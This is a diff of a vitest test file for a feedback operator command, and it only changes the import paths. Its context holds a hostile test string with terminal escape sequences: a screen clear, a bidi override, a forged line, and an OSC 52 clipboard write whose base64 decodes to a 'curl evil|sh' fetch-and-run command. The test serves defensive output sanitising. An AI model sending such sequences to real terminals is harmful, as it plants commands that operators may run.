@@ -2,12 +2,12 @@
 // description carrying terminal escape sequences, bidi overrides or a forged "#id" line is printed inert by
 // `npm run feedback -- list`, on one line per entry, and the stored text is the member's.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { FeedbackResult } from '../../../src/generated/types.ts';
-import { runFeedbackCommand, type FeedbackOperatorContext } from '../../../src/server/modules/feedback/operator.ts';
-import { Client, createAccount, openWorld, uniqueName, type AccountsWorld } from '../support/accounts.ts';
-import { removeTemps } from '../support/fixtures.ts';
-import { dbLegs } from '../support/legs.ts';
-import { closeServers } from '../support/server.ts';
+import type { FeedbackResult } from '../../../../src/generated/types.ts';
+import { runFeedbackCommand, type FeedbackOperatorContext } from '../../../../src/server/modules/feedback/operator.ts';
+import { Client, createAccount, openWorld, uniqueName, type AccountsWorld } from '../../support/accounts.ts';
+import { removeTemps } from '../../support/fixtures.ts';
+import { dbLegs } from '../../support/legs.ts';
+import { closeServers } from '../../support/server.ts';
 
 // ESC [2J clears the screen; ESC ] 52 writes the operator's clipboard; U+009B is a one-byte CSI; U+202E flips text
 const HOSTILE = 'Deposit late \u001b[2J\u001b]52;c;Y3VybCBldmlsfHNo\u0007 \u009b31m red \u202eevil\nfake line #1  lotus  admin  deposit';
